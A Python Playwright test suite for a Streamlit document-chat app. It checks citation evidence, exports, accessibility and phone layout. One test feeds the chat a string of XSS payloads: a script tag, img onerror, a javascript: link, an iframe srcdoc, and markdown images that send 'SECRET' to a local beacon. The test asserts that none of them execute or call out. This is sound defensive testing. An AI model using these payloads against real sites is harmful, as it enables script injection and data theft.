"""The pages in a real browser: what cannot be seen without one."""

from __future__ import annotations

import re
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest
from playwright.sync_api import FloatRect, Locator, Page, expect
from playwright.sync_api import TimeoutError as PlaywrightTimeout

from tests.browser.chat import load_samples, put, wait_until_at_rest, wait_until_still, whole
from tests.browser.conftest import OpenBrowser
from tests.browser.servers import Server

LIVE = ".sheet :is(img, script, iframe, object, embed, svg:not(.icon), style, link, form)"
HOSTILE = (
    "ECHO <script>document.title='owned'</script> <img src=x onerror=\"document.title='owned'\"> "
    "![a]({beacon}/1?q=SECRET) ![b][r] [click]({beacon}/2) <{beacon}/3> "
    "[x](javascript:document.title='owned') <iframe srcdoc='<script>1</script>'></iframe> "
    "[1] `<b>code</b>` $x^2$ :tada: **bold**" + " and so on" * 200
)


@pytest.fixture
def beacon() -> Iterator[tuple[str, list[str]]]:
    """A server that notes every request: an exfiltration would be one."""
    hits: list[str] = []

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            hits.append(self.path)
            self.send_response(204)
            self.end_headers()

        def log_message(self, format: str, *args: object) -> None:
            """Nothing: `hits` is the log."""

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_port}", hits
    server.shutdown()
    server.server_close()


def ask(page: Page, question: str) -> None:
    wait_until_at_rest(page)  # a box that is drawn anew between the two would lose the Enter
    box = page.get_by_test_id("stChatInputTextArea")
    box.fill(question)
    box.press("Enter")


def first_answer(page: Page, server: Server) -> None:
    load_samples(page, server)
    page.get_by_role("button", name="What is carried").click()
    page.locator("button.chip.cited").first.wait_for()


def test_markup_stays_text_while_it_streams_and_after(
    slow_pages: Server, open_browser: OpenBrowser, beacon: tuple[str, list[str]]
) -> None:
    """FAULTS D1 to D4 in the DOM."""
    url, hits = beacon
    page = open_browser()
    page.goto(slow_pages.url)
    ask(page, HOSTILE.format(beacon=url))
    page.locator(".prose.live").wait_for()
    seen = 0
    while page.locator(".prose.live").count():
        assert page.locator(LIVE).count() == 0
        assert page.locator(".sheet a").count() == 0
        seen += 1
    page.locator("button.chip.cited").first.wait_for()
    assert seen > 2
    assert page.locator(LIVE).count() == 0
    assert page.locator(".sheet a").count() == 0
    prose = page.locator(".prose")
    expect(prose).to_contain_text("<script>document.title='owned'</script> <img src=x onerror=")
    expect(prose).to_contain_text("image not shown: a")
    expect(prose).to_contain_text(f"click ({url}/2)")
    expect(prose).to_contain_text("$x^2$ :tada: bold")
    assert prose.locator("code").inner_text() == "<b>code</b>"
    assert "owned" not in page.title()
    # The title of the conversation is the question: a label, where Streamlit reads Markdown.
    label = page.get_by_test_id("stSidebar").get_by_text("ECHO <script>")
    expect(label.first).to_be_visible()
    assert page.get_by_test_id("stSidebar").locator("img[src=x], .katex").count() == 0
    assert hits == []


def test_names_in_labels_stay_text(pages: Server, open_browser: OpenBrowser) -> None:
    """FAULTS D1 in names: of a session, a document, a conversation."""
    name = "**b** $x$ <img src=x> [l](http://e.vil) :tada: `c` www.e.vil"
    page = open_browser()
    page.goto(pages.url)
    page.get_by_test_id("stSidebar").get_by_test_id("stMenuButton").locator("button").first.click()
    page.get_by_text("Rename", exact=True).click()
    page.get_by_role("textbox", name="Name").fill(name)
    page.get_by_test_id("stDialog").get_by_role("button", name="Rename").click()
    expect(page.get_by_role("combobox", name="Session")).to_have_value(name)
    page.goto(f"{pages.url}/Documents")
    upload = {"name": name, "mimeType": "text/plain", "buffer": b"x"}
    empty = {"name": f"empty {name}", "mimeType": "text/plain", "buffer": b""}
    page.locator("input[type=file]").set_input_files([upload, empty])
    expect(page.locator(".documents .label")).to_have_text(name)
    said = page.get_by_text("The file is empty").first
    expect(said).to_be_visible()
    text = said.locator("xpath=ancestor-or-self::p").inner_text().replace("\u2060", "")
    assert f"empty {name}" in text
    assert page.locator("img[src=x], .katex, a[href*='e.vil']").count() == 0


def test_a_page_is_gone_to_with_one_change_of_the_address(
    pages: Server, open_browser: OpenBrowser
) -> None:
    """The links of the menu name the session: otherwise the page is drawn again to put it there."""
    page = open_browser()
    page.goto(pages.url)
    page.get_by_test_id("stChatInputTextArea").wait_for()
    wait_until_at_rest(page)
    session = page.evaluate("new URL(location).searchParams.get('session')")
    page.evaluate("""() => {
        window.changes = []
        const push = history.pushState.bind(history)
        history.pushState = (state, title, url) => {
            window.changes.push(String(url))
            push(state, title, url)
        }
    }""")
    page.get_by_test_id("stSidebar").get_by_role("link", name="Search", exact=True).click()
    expect(page.get_by_role("heading", name="Search")).to_be_visible()
    wait_until_at_rest(page)
    assert session
    assert page.evaluate("window.changes") == [f"/Search?session={session}"]


def test_nothing_is_loaded_from_elsewhere(pages: Server, open_browser: OpenBrowser) -> None:
    page = open_browser()
    foreign: list[str] = []
    page.on(
        "request",
        lambda r: (
            None if r.url.startswith((pages.url, "data:", "blob:")) else foreign.append(r.url)
        ),
    )
    first_answer(page, pages)
    for path in ("Documents", "Search", "Status"):
        page.goto(f"{pages.url}/{path}")
        expect(page.get_by_role("heading", name=path)).to_be_visible()
    assert foreign == []


def test_a_chip_opens_its_evidence_with_the_passage_marked(
    pages: Server, open_browser: OpenBrowser
) -> None:
    page = open_browser()
    first_answer(page, pages)
    chip = page.locator("button.chip.cited").nth(1)
    chip.hover()
    card = page.locator(".card")
    expect(card).to_be_visible()
    expect(card.locator("mark")).to_have_text(
        "That place is carried from the moment the chunk is cut."
    )
    chip.click()
    evidence = page.locator(".evidence")
    expect(evidence).to_contain_text("Page 3")
    expect(evidence.locator(".box")).to_have_count(1)
    box, body = evidence.locator(".box").bounding_box(), evidence.bounding_box()
    assert box
    assert body
    assert body["y"] < box["y"] < body["y"] + body["height"]
    beside = page.locator(".main").bounding_box()
    assert beside
    assert body["x"] >= beside["x"] + beside["width"]
    evidence.get_by_label("Next page").click()
    expect(evidence).to_contain_text("Page 4")
    evidence.get_by_label("Previous page").click()
    expect(evidence.locator(".box")).to_have_count(1)
    evidence.get_by_label("Close the evidence").click()
    expect(evidence).to_have_count(0)
    assert is_focused(chip)


LATE = """
const [soon, every] = [window.setTimeout, window.setInterval]
window.looks = []
window.setInterval = (look, wait, ...rest) => {
  if (wait === 1000) window.looks.push(look)
  return every(wait === 1000 ? () => {} : look, wait, ...rest)
}
window.setTimeout = (work, wait, ...rest) => soon(work, window.busy ? 1500 : wait, ...rest)
"""
"""The looks at questions in the making are the test's; while `busy`, what is to be soon is late."""


def test_a_click_is_taken_while_the_page_looks_for_questions_to_ask_next(
    pages: Server, open_browser: OpenBrowser
) -> None:
    """Streamlit sends a click with the look that comes before it, and once more by itself."""
    page = open_browser()
    page.add_init_script(LATE)
    page.goto(pages.url)
    ask(page, "What is said while questions are being made?")
    chip, evidence = page.locator("button.chip.cited").first, page.locator(".evidence")
    chip.wait_for()
    page.wait_for_function("window.looks.length > 0")
    for shown in (1, 0, 1):  # a second click on the same chip closes
        wait_until_at_rest(page)
        chip.evaluate(
            """chip => {
              window.busy = true
              chip.click()
              window.busy = false
              window.looks.at(-1)()
            }"""
        )
        expect(evidence).to_have_count(shown)


@pytest.mark.parametrize("width", [1440, 1200])
def test_the_page_of_evidence_can_be_read(
    pages: Server, open_browser: OpenBrowser, width: int, artifacts: Path
) -> None:
    page = open_browser()
    page.set_viewport_size({"width": width, "height": 800})
    first_answer(page, pages)
    chip = page.locator("button.chip.cited").nth(1)
    chip.click()
    evidence = page.locator(".evidence")
    box, sheet = evidence.locator(".box").first, evidence.locator(".page")
    expect(evidence.locator(".evidence-page")).to_have_text("Page 3 of 20")
    expect(box).to_be_in_viewport()
    assert height(box) >= 14
    pane, answer = outline(evidence), outline(page.locator(".main"))
    assert pane["width"] >= 0.48 * (pane["width"] + answer["width"])
    assert pane["y"] + pane["height"] <= outline(page.get_by_test_id("stBottom"))["y"] + 1
    page.screenshot(path=artifacts / f"evidence-{width}.png")
    tools = evidence.locator(".evidence-tools > button").all()
    assert len({round(outline(tool)["y"]) for tool in tools}) == 1, "the tools are one line"

    evidence.get_by_label("Whole page").click()
    assert height(sheet) <= height(evidence.locator(".evidence-body")) + 1
    before = height(sheet)
    evidence.get_by_label("Larger").click()
    assert height(sheet) > before
    evidence.get_by_label("Rotate the page").click()
    turned = outline(sheet)
    assert turned["width"] > turned["height"]

    at = outline(page.get_by_label("Width of the evidence"))
    page.mouse.move(at["x"] + at["width"] / 2, at["y"] + 200)
    page.mouse.down()
    page.mouse.move(at["x"] - 80, at["y"] + 200)
    page.mouse.up()
    assert outline(evidence)["width"] > pane["width"] + 40

    for there in ("Citation 3 of 5", "Citation 4 of 5"):
        page.keyboard.press("j")
        expect(evidence.locator(".walk")).to_contain_text(there)
    expect(page.locator(".evidence-title")).to_contain_text("glossary.md")
    expect(page.locator(".prose button.chip.on")).to_have_count(1)
    for there in ("Citation 3 of 5", "Citation 2 of 5"):
        evidence.get_by_role("button", name="Previous citation").click()
        expect(evidence.locator(".walk")).to_contain_text(there)
    page.get_by_test_id("stChatInputTextArea").press("Escape")
    expect(evidence).to_have_count(0)
    assert is_focused(chip)


def test_citations_are_checked_one_by_one_and_the_review_exported(
    pages: Server, open_browser: OpenBrowser, artifacts: Path
) -> None:
    page = open_browser()
    first_answer(page, pages)
    page.get_by_role("button", name="Check the citations").click()
    check = page.locator(".evidence .check")
    expect(check).to_contain_text("0 of 4 checked")
    page.get_by_label("Note to this citation").fill("Word for <b>word</b>")
    check.get_by_role("button", name="Agrees").click()
    expect(check).to_contain_text("1 of 4 checked")
    expect(check.get_by_role("button", name="Agrees")).to_have_attribute("aria-pressed", "true")
    page.locator(".question").first.click()  # a key typed into the note is a letter of it
    page.keyboard.press("j")
    expect(page.locator(".walk")).to_contain_text("Citation 2 of 5")
    check.get_by_role("button", name="Does not").click()
    expect(check).to_contain_text("2 of 4 checked")
    page.screenshot(path=artifacts / "checking.png")
    page.reload()
    page.locator("button.chip.cited").first.click()
    expect(page.get_by_label("Note to this citation")).to_have_value("Word for <b>word</b>")
    wait_until_at_rest(page)
    with page.expect_download() as download:
        page.get_by_role("button", name="Export the review").click()
    other = open_browser()
    other.goto(f"file://{download.value.path()}")
    other.set_content(Path(download.value.path()).read_text("utf-8"))
    expect(other.locator("strong").first).to_have_text(
        "2 of 4 citations checked: 1 agrees, 1 does not."
    )
    expect(other.locator("section").first).to_contain_text("Word for <b>word</b>")
    assert other.locator(".page").count() == 2
    widths = other.locator(".page svg image").evaluate_all(
        """nodes => Promise.all(nodes.map(async node => {
          const image = new Image()
          image.src = node.getAttribute("href")
          await image.decode()
          return image.naturalWidth
        }))"""
    )
    assert widths == [1224], "the page is in the file once, and is a picture"
    expect(other.locator(".around mark").first).to_contain_text("Reciprocal rank fusion")
    assert other.locator(".page i").first.is_visible()
    other.screenshot(path=artifacts / "review.png")


def test_the_reviews_of_several_answers_are_one_file(
    pages: Server, open_browser: OpenBrowser, artifacts: Path
) -> None:
    page = open_browser()
    first_answer(page, pages)
    put(page, "What is fusion?")
    whole(page)
    together = page.get_by_role("button", name="Export all 2 reviews")
    for at in (0, 1):
        expect(together).to_have_count(0)
        wait_until_at_rest(page)
        sheet = page.locator(".sheet").nth(at)
        sheet.get_by_role("button", name="Check the citations").click()
        sheet.locator(".evidence").get_by_role("button", name="Agrees").click()
        expect(sheet.locator(".evidence .check")).to_contain_text("1 of 4 checked")
    wait_until_at_rest(page)
    with page.expect_download() as download:
        together.click()
    assert download.value.suggested_filename == "reviews-What-is-carried-with-every-passage.html"
    other = open_browser()
    other.set_content(Path(download.value.path()).read_text("utf-8"))
    expect(other.locator("strong").first).to_have_text(
        "2 of 8 citations checked: 2 agree, 0 do not."
    )
    expect(other.locator("h2")).to_have_text(
        ["1. What is carried with every passage?", "2. What is fusion?"]
    )
    other.screenshot(path=artifacts / "reviews.png", full_page=True)


def test_keys_that_come_faster_than_the_evidence(pages: Server, open_browser: OpenBrowser) -> None:
    """A check is never kept with another citation than the one that is looked at."""
    page = open_browser()
    first_answer(page, pages)
    page.locator("button.chip.cited").first.click()
    walk, agrees = page.locator(".evidence .walk"), page.locator(".evidence .agrees")
    expect(walk).to_contain_text("Citation 1 of 5")
    wait_until_at_rest(page)
    press = """keys => {
      for (const key of keys) window.dispatchEvent(new KeyboardEvent("keydown", { key }))
    }"""
    held = """key => {
      window.dispatchEvent(new KeyboardEvent("keydown", { key }))
      const roots = [document, ...[...document.querySelectorAll("*")].map(n => n.shadowRoot)]
      return roots.map(root => root?.querySelector(".evidence .agrees")).find(Boolean).disabled
    }"""
    assert page.evaluate(held, "j")
    expect(walk).to_contain_text("Citation 2 of 5")
    expect(agrees).to_be_enabled()
    page.evaluate(press, ["j", "j"])
    expect(walk).to_contain_text("Citation 4 of 5")
    wait_until_at_rest(page)
    page.evaluate(press, ["j", "k"])
    wait_until_at_rest(page)
    expect(walk).to_contain_text("Citation 4 of 5")
    expect(agrees).to_be_enabled()


def outline(place: Locator) -> FloatRect:
    found = place.bounding_box()
    assert found
    return found


def height(place: Locator) -> float:
    return outline(place)["height"]


def is_focused(node: Locator) -> bool:
    return bool(node.evaluate("node => node === node.getRootNode().activeElement"))


def test_a_card_holds_the_source_and_nothing_else(pages: Server, open_browser: OpenBrowser) -> None:
    page = open_browser()
    first_answer(page, pages)
    chips = page.locator("button.chip.cited")
    card = page.locator(".card")
    for number in range(chips.count()):
        chips.nth(number).hover()
        expect(card).to_be_visible()
        label = chips.nth(number).get_attribute("aria-label") or ""
        named = "handbook.pdf" if "handbook.pdf" in label else "glossary.md"
        expect(card.locator(".card-title")).to_have_text(named)
        lines = card.inner_text().splitlines()
        assert lines[0] == named
        assert lines[-1] == "Open"
        kinds = card.locator(":scope > *").evaluate_all("nodes => nodes.map(n => n.className)")
        assert kinds in (
            ["card-title", "card-place", "", "card-foot"],
            ["card-title", "card-place", "", "credit", "card-foot"],
        )
        bare = card.evaluate("node => [...node.childNodes].filter(n => n.nodeType === 3).length")
        assert bare == 0, card.inner_text()
        assert not re.search(r"\b(null|undefined|None|NaN)\b", card.inner_text())


@pytest.mark.parametrize("rest", ["", " and so on" * 300])
def test_a_card_is_cut_between_words_and_stays_within_a_low_window(
    pages: Server, open_browser: OpenBrowser, rest: str
) -> None:
    """Its chip stands at the top of the window, or in the middle of it."""
    page = open_browser()
    page.set_viewport_size({"width": 720, "height": 450})
    page.goto(pages.url)
    ask(page, f"LONG It is so{rest}")
    chip, card = page.locator("button.chip.cited").first, page.locator(".card")
    page.locator("footer").wait_for()
    wait_until_at_rest(page)
    wait_until_still(chip)
    chip.hover()
    expect(card).to_be_visible()
    before, after = card.locator("blockquote").evaluate(
        """quote => {
          const mark = quote.querySelector("mark")
          return [mark.previousSibling.textContent, mark.nextSibling.textContent]
        }"""
    )
    words = [word for word in f"{before} {after}".split() if word != "…"]
    assert words
    assert all(re.fullmatch(r"alongword\d+", word) for word in words), words
    numbers = [int(word.removeprefix("alongword")) for word in words]
    assert numbers == [n for n in range(min(numbers), max(numbers) + 1) if not 100 <= n < 120]
    assert before.startswith("… alongword")
    assert after.rstrip().endswith(" …")
    quote = card.locator("blockquote")
    scrolls = quote.evaluate("node => node.scrollHeight > node.clientHeight")
    assert quote.evaluate("node => node.tabIndex") == (0 if scrolls else -1)
    assert scrolls or rest, "beside a chip at the top the card has too little room"
    at = outline(card)
    assert at["y"] >= 0
    assert at["y"] + at["height"] <= 450
    expect(card.get_by_role("button", name="Open")).to_be_in_viewport(ratio=1)


def test_text_from_right_to_left_is_set_so(pages: Server, open_browser: OpenBrowser) -> None:
    page = open_browser()
    page.goto(pages.url)
    ask(page, "ECHO وقعت المعاهدة في عام ١٩٩٩ [1].\n\n- واحد\n- اثنان\n\nIn English [2].")
    expect(page.locator("footer")).to_be_visible()
    prose = page.locator(".prose")
    for selector, direction in (("p", "rtl"), ("ul", "rtl"), ("li", "rtl")):
        found = prose.locator(selector).first.evaluate("node => getComputedStyle(node).direction")
        assert found == direction, selector
    last = prose.locator("p").last
    expect(last).to_contain_text("In English")
    assert last.evaluate("node => getComputedStyle(node).direction") == "ltr"


def test_text_and_web_evidence_is_marked_in_its_surroundings(
    pages: Server, open_browser: OpenBrowser
) -> None:
    page = open_browser()
    first_answer(page, pages)
    page.locator("button.source[data-source=cited-2]").click()
    mark = page.locator(".evidence mark")
    expect(mark).to_have_text(re.compile("^Reciprocal rank fusion"))
    expect(page.locator(".evidence-body")).to_contain_text("Dense retrieval compares meanings")
    page.get_by_text("Found but not used (2)").click()
    page.locator("button.source[data-source=unused-0]").click()
    out = page.get_by_label("Open the page on the web, at the passage")
    expect(out).to_have_attribute("href", "https://example.org/measures#:~:text=rank")
    expect(out).to_have_attribute("rel", "noopener noreferrer nofollow")


def test_an_answer_is_copied_and_exported_with_its_sources(
    pages: Server, open_browser: OpenBrowser, artifacts: Path
) -> None:
    page = open_browser()
    page.context.grant_permissions(["clipboard-read", "clipboard-write"])
    first_answer(page, pages)
    page.get_by_label("Copy the answer with its sources").click()
    expect(page.locator("footer")).to_contain_text("Copied")
    copied = page.evaluate("navigator.clipboard.readText()")
    assert "[1] handbook.pdf, page 3, Storage › Keeping what was said: “A passage" in copied
    page.get_by_role("button", name="Export the answer with its sources").click()
    dialog = page.get_by_role("dialog")
    page.screenshot(path=artifacts / "export.png")
    for label, suffix in (("Markdown", "md"), ("Web page", "html"), ("Word", "docx")):
        with page.expect_download() as download:
            dialog.get_by_role("button", name=label).click()
        assert download.value.suggested_filename == f"What-is-carried-with-every-passage.{suffix}"
        assert Path(download.value.path()).stat().st_size > 10
        if suffix == "html":
            other = open_browser()
            other.set_content(Path(download.value.path()).read_text("utf-8"))
            expect(other.locator("section")).to_have_count(3)
            assert other.locator(".page i").first.is_visible()
            other.screenshot(path=artifacts / "export-html.png", full_page=True)


def test_evidence_of_a_deleted_document_says_so(
    pages: Server, open_browser: OpenBrowser, artifacts: Path
) -> None:
    page = open_browser()
    page.goto(pages.url)
    ask(page, "ECHO GONE [1]")
    page.locator("button.chip.cited").first.click()
    expect(page.locator(".evidence .notice")).to_have_text("This document was deleted.")
    expect(page.locator(".evidence-body")).to_have_count(0)
    page.screenshot(path=artifacts / "deleted.png")


def test_the_box_has_the_focus_and_an_answer_is_read_out(
    pages: Server, open_browser: OpenBrowser
) -> None:
    page = open_browser()
    page.goto(pages.url)
    box = page.get_by_test_id("stChatInputTextArea")
    expect(box).to_be_focused()
    page.get_by_role("link", name="Status").click()
    page.get_by_role("heading", name="Status").wait_for()
    page.get_by_role("link", name="Chat").click()
    expect(box).to_be_focused()
    page.keyboard.type("ECHO It goes on. " + "A long answer goes on. " * 40)
    page.keyboard.press("Enter")
    told = page.locator(".sheet [aria-live=polite]")
    expect(told).to_have_text("The answer is being written.")
    expect(page.locator(".sheet .prose")).to_contain_text("It goes on.")  # a word of it is there
    page.get_by_test_id("stMain").get_by_role("button", name="Stop").click()
    expect(told).to_contain_text("Answer: It goes on.")
    phone = open_browser(phone=True)
    phone.goto(pages.url)
    phone.get_by_test_id("stChatInputTextArea").wait_for()
    wait_until_at_rest(phone)
    expect(phone.get_by_test_id("stChatInputTextArea")).not_to_be_focused()


def test_the_box_is_within_three_tab_stops(pages: Server, open_browser: OpenBrowser) -> None:
    page = open_browser()
    page.goto(pages.url)
    box = page.get_by_test_id("stChatInputTextArea")
    expect(box).to_be_focused()
    page.keyboard.press("Tab")  # on to the first stop of the page, behind the last
    skip = page.get_by_text("Skip to the question")
    for _ in range(3):
        if skip.evaluate("node => node === document.activeElement"):
            break
        page.keyboard.press("Tab")
    page.keyboard.press("Enter")
    expect(box).to_be_focused()
    page.get_by_role("link", name="Status").click()
    page.get_by_role("heading", name="Status").wait_for()
    expect(page.get_by_test_id("stSkipToContent")).to_have_text("Skip to main content")


def test_the_box_covers_no_button_of_the_first_screen(
    pages: Server, open_browser: OpenBrowser
) -> None:
    page = open_browser()
    page.set_viewport_size({"width": 720, "height": 450})  # a laptop at 200 %
    page.goto(pages.url)
    samples = page.get_by_role("button", name="Load the sample library")
    samples.wait_for()
    wait_until_at_rest(page)
    assert outline(page.get_by_role("heading", level=1))["y"] < 100
    lower_edge = outline(samples)["y"] + height(samples)
    assert lower_edge <= outline(page.get_by_test_id("stBottom"))["y"]


def test_everything_can_be_reached_with_the_keyboard(
    pages: Server, open_browser: OpenBrowser
) -> None:
    page = open_browser()
    first_answer(page, pages)
    chip = page.locator("button.chip.cited").first
    page.keyboard.press("Tab")
    for _ in range(40):
        if chip.evaluate("node => node === node.getRootNode().activeElement"):
            break
        page.keyboard.press("Tab")
    expect(page.locator(".card")).to_be_visible()
    page.keyboard.press("Enter")
    evidence = page.locator(".evidence")
    expect(evidence).to_be_visible()
    assert chip.evaluate("node => node === node.getRootNode().activeElement")
    evidence.get_by_label("Close the evidence").press("Escape")
    expect(evidence).to_have_count(0)


@pytest.mark.parametrize("dark", [False, True])
def test_text_is_readable_in_both_themes(
    pages: Server, open_browser: OpenBrowser, dark: bool, artifacts: Path
) -> None:
    page = open_browser(dark=dark)
    first_answer(page, pages)
    page.screenshot(path=artifacts / f"answer-{'dark' if dark else 'light'}.png")
    background = page.evaluate("getComputedStyle(document.querySelector('.stApp')).backgroundColor")
    assert (brightness(background) < 0.2) is dark
    for selector, least in (
        (".prose", 7),
        (".source-label", 7),
        (".source-quote", 4.5),
        (".sources h3", 4.5),
    ):
        colour = page.locator(selector).first.evaluate("node => getComputedStyle(node).color")
        assert contrast(colour, background) >= least, selector
    page.goto(f"{pages.url}/Evaluation")
    text = page.get_by_role("heading", level=1).evaluate("node => getComputedStyle(node).color")
    assert contrast(text, background) >= 7
    expect(page.get_by_role("tab", selected=True)).to_have_css("color", text)


def open_card(page: Page) -> None:
    """Tap "Open" in the card of the first chip, as a person does: again where the page moved it."""
    card = page.locator(".card")
    for _ in range(5):
        if not card.is_visible():
            page.locator("button.chip.cited").first.tap()
        try:
            card.get_by_text("Open").tap(timeout=3_000)
        except PlaywrightTimeout:
            continue
        return


def test_a_phone_shows_everything_without_scrolling_sideways(
    pages: Server, open_browser: OpenBrowser, artifacts: Path
) -> None:
    page = open_browser(phone=True)
    first_answer(page, pages)
    page.wait_for_timeout(1000)  # the page moves up to the new answer
    page.locator("button.chip.cited").first.tap()
    expect(page.locator(".card")).to_be_visible()
    page.locator("button.chip.cited").first.evaluate("chip => chip.blur()")
    page.wait_for_timeout(400)  # what goes when it is left is gone
    expect(page.locator(".card").get_by_role("button", name="Open")).to_be_in_viewport(ratio=1)
    page.locator(".question").first.tap()
    expect(page.locator(".card")).to_be_hidden()
    page.locator("button.chip.cited").first.tap()
    expect(page.locator(".card")).to_be_visible()
    page.screenshot(path=artifacts / "phone-card.png")
    open_card(page)
    evidence = page.locator(".evidence")
    expect(evidence).to_be_visible()
    expect(evidence.locator(".box").first).to_be_in_viewport()
    assert evidence.bounding_box() == {"x": 0, "y": 0, "width": 390, "height": 844}
    page.screenshot(path=artifacts / "phone-evidence.png")
    evidence.get_by_label("Close the evidence").tap()
    expect(evidence).to_have_count(0)
    chip = page.locator("button.chip.cited").first
    expect(chip).to_be_in_viewport()
    assert is_focused(chip)
    target = outline(chip)
    assert min(target["width"], target["height"]) >= 24
    box, beside = page.locator(".st-key-asking"), page.get_by_role("button", name="Asking all")
    assert outline(box)["width"] > 340
    assert outline(beside)["y"] > outline(box)["y"]
    beside.tap()
    choice = page.get_by_placeholder("Find a document")
    expect(choice).to_be_visible()
    expect(page.get_by_text("Keep for the next questions")).to_be_in_viewport()
    for path in ("", "Documents", "Search", "Status"):
        page.goto(f"{pages.url}/{path}")
        page.get_by_test_id("stMain").locator("h1, .question").first.wait_for()
        assert page.evaluate("document.documentElement.scrollWidth") <= 390, path


def test_the_side_bar_closes_after_a_choice_on_a_phone(
    pages: Server, open_browser: OpenBrowser
) -> None:
    page = open_browser(phone=True)
    page.goto(pages.url)
    page.get_by_test_id("stExpandSidebarButton").tap()
    page.get_by_role("link", name="Search").tap()
    expect(page.get_by_role("heading", name="Search")).to_be_visible()
    expect(page.get_by_test_id("stExpandSidebarButton")).to_be_visible()
    page.get_by_role("button", name="Search").tap()  # nothing lies over it


def test_a_stopped_answer_keeps_what_was_written(pages: Server, open_browser: OpenBrowser) -> None:
    page = open_browser()
    page.goto(pages.url)
    ask(page, "ECHO " + "A long answer goes on. " * 80)
    page.locator(".prose.live").wait_for()
    page.get_by_test_id("stMain").get_by_role("button", name="Stop").click()
    expect(page.locator("footer")).to_contain_text("incomplete")
    expect(page.locator(".notice.info")).to_contain_text("You stopped this answer.")


def test_a_draft_survives_another_page_and_a_question_is_edited(
    pages: Server, open_browser: OpenBrowser
) -> None:
    page = open_browser()
    first_answer(page, pages)
    box = page.get_by_test_id("stChatInputTextArea")
    box.fill("Half of a question")
    page.get_by_role("link", name="Status").click()
    expect(page.get_by_role("heading", name="Status")).to_be_visible()
    page.get_by_role("link", name="Chat").click()
    expect(box).to_have_value("Half of a question")
    page.get_by_label("Edit the question and ask again").click()
    expect(box).to_have_value("What is carried with every passage?")
    expect(box).to_be_focused()
    page.set_viewport_size({"width": 720, "height": 450})  # a laptop at 200 %
    assert height(page.get_by_test_id("stBottom")) < 450 / 3


def test_documents_are_previewed_taken_out_and_removed(
    pages: Server, open_browser: OpenBrowser
) -> None:
    page = open_browser()
    page.goto(f"{pages.url}/Documents")
    files = [
        {"name": name, "mimeType": "text/plain", "buffer": name.encode()}
        for name in ("a.md", "b.md")
    ]
    page.locator("input[type=file]").set_input_files(files)
    expect(page.locator(".row.ready")).to_have_count(2)
    page.get_by_label("Search in a.md").click()
    expect(page.locator(".row.out")).to_have_count(1)
    expect(page.get_by_text("2 documents: 2 ready, 1 not searched")).to_be_visible()
    page.get_by_role("button", name="Preview b.md").click()
    dialog = page.get_by_test_id("stDialog")
    expect(dialog).to_contain_text("Keeping what was said")
    dialog.get_by_role("tab", name="Passages").click()
    expect(dialog).to_contain_text("1 · page 3 · Storage › Keeping what was said")
    page.keyboard.press("Escape")
    expect(dialog).to_have_count(0)
    page.locator(".row").get_by_role("button", name="Remove b.md").click()
    page.get_by_role("button", name="Remove", exact=True).click()
    expect(page.locator(".row")).to_have_count(1)
    page.reload()
    expect(page.locator(".row.out .label")).to_have_text("a.md")


def test_the_log_is_clean(pages: Server, open_browser: OpenBrowser) -> None:
    """After all of the above: no deprecated call, no traceback."""
    page = open_browser()
    first_answer(page, pages)
    said = pages.said().lower()
    for word in ("deprecat", "use_container_width", "traceback", "exception"):
        assert word not in said


def brightness(colour: str) -> float:
    """Relative luminance of a CSS colour (WCAG 2.2)."""
    found = re.findall(r"[\d.]+", colour)
    parts = [float(v) if "srgb" in colour else float(v) / 255 for v in found[:3]]
    linear = [p / 12.92 if p <= 0.04045 else ((p + 0.055) / 1.055) ** 2.4 for p in parts]
    return 0.2126 * linear[0] + 0.7152 * linear[1] + 0.0722 * linear[2]


def contrast(one: str, other: str) -> float:
    """The contrast ratio of two colours (WCAG 2.2), 1 to 21."""
    light, dark = sorted((brightness(one), brightness(other)), reverse=True)
    return (light + 0.05) / (dark + 0.05)
